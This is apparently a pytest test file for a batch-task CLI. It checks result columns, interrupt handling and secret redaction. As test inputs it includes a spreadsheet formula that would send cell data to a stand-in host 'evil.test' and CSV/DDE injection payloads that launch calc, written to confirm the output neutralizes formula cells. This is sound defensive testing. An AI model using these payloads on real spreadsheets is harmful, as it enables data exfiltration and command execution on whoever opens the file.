"""What results of `delegate batch` hold of their rows, and what an interrupt leaves of tasks in flight."""

import csv
import json
import os
import signal
import subprocess
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from delegate.batch.sources import TaskFile
from delegate.batch.templates import Templates
from delegate.cli.input.taskfile import read_task
from tests.batch.rows import lines
from tests.cli.command import delegate, openai_at
from tests.support import warm
from tests.support.model_server import Call, Fault, ModelServer, Reply

PATIENCE = 20
FORMULA = '=HYPERLINK("http://evil.test/"&A1)'
SCHEMA = {
    "type": "object",
    "required": ["name"],
    "properties": {"name": {"type": "string"}, "age": {"type": "integer"}, "tags": {"type": "array"}},
}


def _goal(call: Call) -> str:
    return call.texts[0].split("\n")[0]


def _model(call: Call) -> Reply | Fault:
    """Children act as their goal says, and a judge never answers."""
    goal = _goal(call)
    if call.wants_json or "hang" in goal:
        return Fault(kind="hang")
    if "denied" in goal:
        return Fault(status=401)
    if "person" in goal:
        return Reply(json.dumps({"name": FORMULA, "age": -5, "tags": ["a", 1]}), input_tokens=9, output_tokens=9)
    return Reply("nothing was done" if "fail" in goal else f"did my part: {goal}", input_tokens=9, output_tokens=9)


def _starts(server: ModelServer) -> Counter[str]:
    return Counter(_goal(call) for call in server.calls if not call.wants_json)


def _csv(path: str) -> list[dict[str, str]]:
    with Path(path).open(newline="") as file:
        return list(csv.DictReader(file))


def _batch(*arguments: str, server: ModelServer) -> str:
    """Run a batch, and return its run id."""
    done = delegate("batch", *arguments, **openai_at(server))
    assert done.returncode in (0, 1, 3), done.stderr
    return done.stdout.partition("run ")[2].split()[0]


DID = ("-c", "regex: did my part")


def test_each_line_repeats_the_columns_of_its_row() -> None:
    Path("t.csv").write_text("id,company,note\nx,Acme,first\n,fail Bolt,\n")
    with ModelServer(_model) as server:
        _batch("t.csv", "-o", "r.jsonl", "--goal", "Look at {company}", *DID, server=server)
    found = {row["id"]: (row["verdict"], row["input"]) for row in lines(Path("r.jsonl"))}
    assert found == {
        "x": ("PASS", {"id": "x", "company": "Acme", "note": "first"}),
        "2": ("FAIL", {"id": "", "company": "fail Bolt", "note": ""}),
    }


def test_a_csv_of_results_has_the_columns_of_the_input_by_name() -> None:
    Path("t.csv").write_text("id,company,status,output.name,input.x,verdict\nx,Acme,new,n,y,v\n")
    with ModelServer(_model) as server:
        _batch("t.csv", "-o", "r.csv", "--goal", "Look at {company}", *DID, server=server)
    (row,) = _csv("r.csv")
    assert list(row)[:4] == ["verdict", "id", "row", "company"]
    assert (row["id"], row["company"], row["status"], row["verdict"]) == ("x", "Acme", "completed", "PASS")
    names = ("input.status", "input.output.name", "input.input.x", "input.verdict")
    assert [row[name] for name in names] == ["new", "n", "y", "v"]
    assert "input.id" not in row


def test_a_csv_of_results_has_a_column_per_field_of_the_schema() -> None:
    Path("schema.json").write_text(json.dumps(SCHEMA))
    Path("t.csv").write_text("who\nperson\nfail\n")
    with ModelServer(_model) as server:
        arguments = ("t.csv", "-o", "r.csv", "--goal", "Describe {who}", "--output-schema", "schema.json")
        _batch(*arguments, server=server)
    rows = {row["who"]: row for row in _csv("r.csv")}
    described = rows["person"]
    assert (described["output.name"], described["output.age"]) == (f"'{FORMULA}", "-5")
    assert json.loads(described["output.tags"]) == ["a", 1]
    assert json.loads(described["structured_output"])["name"] == FORMULA
    assert rows["fail"]["output.name"] == ""
    columns = list(described)
    assert columns[columns.index("report") + 1 :][:3] == ["output.name", "output.age", "output.tags"]


def test_no_cell_of_a_row_can_be_a_formula() -> None:
    starts = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
    names = [f"{start.strip() or '='}col {n}" for n, start in enumerate(starts)]
    cells = [f'{start}cmd|" /C calc"!A0;=1+1' for start in starts]
    with Path("t.csv").open("w", newline="") as file:
        csv.writer(file).writerows([names, cells])
    with ModelServer(_model) as server:
        _batch("t.csv", "-o", "r.csv", "--goal", f"Look {{{names[0]}}}", *DID, server=server)
        _batch("t.csv", "-o", "r.jsonl", "--goal", f"Look {{{names[0]}}}", *DID, "--again", server=server)
    with Path("r.csv").open(newline="") as file:
        written = [one for row in csv.reader(file) for one in row]
    assert {f"'{cell}" for cell in (*names, *cells)} <= set(written)
    assert not [one for one in written if one.startswith(tuple("=+-@\t\r\n＝＋－＠"))]
    assert next(iter(lines(Path("r.jsonl"))))["input"] == dict(zip(names, cells, strict=True)), "JSON is as it was"


NUMBERS = ["-5", "-7.5", "+5", "-1.5e3", "-1,234.50", "-1.234,50", "-.5", "-12%", "+491701234567"]
NO_NUMBERS = ["-1+cmd|' /C calc'!A0", "-A1", "-1-1", "+1*2", "-", "-5 ", "-e3", "-1e", "-1:5", "-5%%", "=5", "-(5)"]


def test_numbers_of_a_row_are_numbers_and_are_read_back_as_they_were() -> None:
    names = [f"n{n}" for n in range(len(NUMBERS + NO_NUMBERS))]
    with Path("t.csv").open("w", newline="") as file:
        csv.writer(file).writerows([names, [*NUMBERS, *NO_NUMBERS]])
    with ModelServer(_model) as server:
        _batch("t.csv", "-o", "r.csv", "--goal", "Look {n0}", *DID, server=server)
    (row,) = _csv("r.csv")
    assert [row[name] for name in names] == [*NUMBERS, *(f"'{text}" for text in NO_NUMBERS)]
    (item,) = TaskFile(Path("r.csv"), read_task, Templates("Look {n0}"))
    assert [item.input[name] for name in names[: len(NUMBERS)]] == NUMBERS


def test_errors_stand_with_their_rows() -> None:
    Path("t.csv").write_text("company,note\nA,1\nB,2,extra\ndenied,3\n")
    with ModelServer(_model) as server:
        arguments = ("t.csv", "-o", "r.csv", "--goal", "Look at {company}", *DID, "--skip-bad")
        done = delegate("batch", *arguments, **openai_at(server))
    assert done.stdout.startswith("2 of 3 done: 1 PASS, 1 FAIL · 1 bad_row · cost ")
    rows = {row["company"]: row for row in _csv("r.csv")}
    assert [rows[name]["state"] for name in ("A", "B", "denied")] == ["done", "bad_row", "done"]
    assert "3 fields" in rows["B"]["why"]
    assert rows["B"]["note"] == "2"
    assert rows["denied"]["why"] == "auth"
    assert "HTTP 401" in rows["denied"]["reasoning"]


def test_tasks_of_a_json_file_are_repeated_by_their_goals() -> None:
    tasks = [{"id": "a", "goal": "first", "acceptance_criteria": [{"kind": "regex", "pattern": "did my part"}]},
             {"id": "b", "goal": "second", "needs": ["a"], "acceptance_criteria": ["regex: did nothing"]},
             {"id": "c", "goal": "third", "needs": ["b"]}]  # fmt: skip
    Path("t.json").write_text(json.dumps(tasks))
    with ModelServer(_model) as server:
        _batch("t.json", "-o", "r.csv", server=server)
    assert {row["id"]: (row["goal"], row["state"]) for row in _csv("r.csv")} == {
        "a": ("first", "done"), "b": ("second", "done"), "c": ("third", "blocked"),
    }  # fmt: skip


def _stopped(server: ModelServer, calls: int, number: signal.Signals, *arguments: str) -> tuple[int, str]:
    """Send a signal after so many calls to models; returns the exit code and the run id."""
    command = [*warm.delegate(), "batch", *arguments]
    with subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, env={**os.environ, **openai_at(server)}
    ) as process:
        server.wait_for_calls(calls, PATIENCE)
        process.send_signal(number)
        process.communicate(timeout=PATIENCE)
    (run,) = json.loads(delegate("runs", "--format", "json").stdout)
    return process.returncode, run["run_id"]


@pytest.mark.parametrize(
    ("number", "file"), [(signal.SIGINT, "r.jsonl"), (signal.SIGTERM, "r.csv"), (signal.SIGKILL, "r.csv")]
)
def test_a_task_in_flight_is_unknown_however_the_batch_ended(number: signal.Signals, file: str) -> None:
    did = [{"kind": "regex", "pattern": "did my part"}]
    after = {"needs": ["1"], "when": "always"}
    tasks = [{"goal": "fail A"}, {"goal": "hang B", **after}, {"goal": "C", **after}]
    Path("t.json").write_text(json.dumps([{**task, "acceptance_criteria": did} for task in tasks]))
    with ModelServer(_model) as server:
        code, run = _stopped(server, 2, number, "t.json", "-o", file, "--concurrency", "1")
        assert code == (1 if number != signal.SIGKILL else -number), "fail A is bad work"
        assert _batch("--resume", run, server=server) == run
        states = _states(file)
        assert states == {"fail A": "done FAIL", "hang B": "outcome_unknown ", "C": "done PASS"}
        _batch("--resume", run, "--rerun", "fail", server=server)
        assert _starts(server) == {"fail A": 2, "hang B": 1, "C": 1}
        assert _states(file) == states


def _states(file: str) -> dict[str, str]:
    """The state and the verdict of each goal."""
    rows: list[dict[str, Any]] = lines(Path(file)) if file.endswith(".jsonl") else _csv(file)
    assert len(rows) == 3
    return {row.get("goal") or row["input"]["goal"]: f"{row['state']} {row['verdict'] or ''}" for row in rows}


def test_a_verdict_that_was_interrupted_is_unknown_and_not_a_fail() -> None:
    Path("t.csv").write_text("company\nA\n")
    arguments = ("t.csv", "-o", "r.jsonl", "--goal", "Look at {company}", "-c", "report: the report says what it did")
    with ModelServer(_model) as server:
        code, run = _stopped(server, 2, signal.SIGINT, *arguments)
        assert server.calls[-1].wants_json
        (row,) = lines(Path("r.jsonl"))
        assert (code, row["state"], row["verdict"]) == (3, "outcome_unknown", None)
        assert row["report"] == "did my part: Look at A", "what the child reported is kept"
        assert row["handle"]
        assert "--rerun unknown" in delegate("batch", "--resume", run, **openai_at(server)).stdout
        assert set(_starts(server).values()) == {1}


def test_a_task_that_was_stopped_runs_again_only_on_request() -> None:
    replies = iter([Fault(kind="hang"), Reply("did my part", input_tokens=9, output_tokens=9)])
    Path("t.csv").write_text("company\nA\n")
    with ModelServer(lambda call: next(replies)) as server:
        _, run = _stopped(server, 1, signal.SIGINT, "t.csv", "-o", "r.jsonl", "--goal", "Look at {company}", *DID)
        done = delegate("batch", "--resume", run, "--rerun", "unknown", **openai_at(server))
    assert done.returncode == 0, done.stdout
    (row,) = lines(Path("r.jsonl"))
    assert (row["verdict"], row["input"]) == ("PASS", {"company": "A"})


def test_a_secret_of_a_row_is_in_neither_results_nor_journal(home: Path) -> None:
    secret = "sk-proj-" + "aB3dE5fG7hI9kL1mN3pQ5rS7tU9vW1xY3z"
    Path("t.csv").write_text(f"company,key\nA,{secret}\n")
    with ModelServer(_model) as server:
        _batch("t.csv", "-o", "r.jsonl", "--goal", "Look at {company}", *DID, server=server)
    assert secret not in Path("r.jsonl").read_text()
    assert all(secret.encode() not in file.read_bytes() for file in home.glob("batches.sqlite3*"))
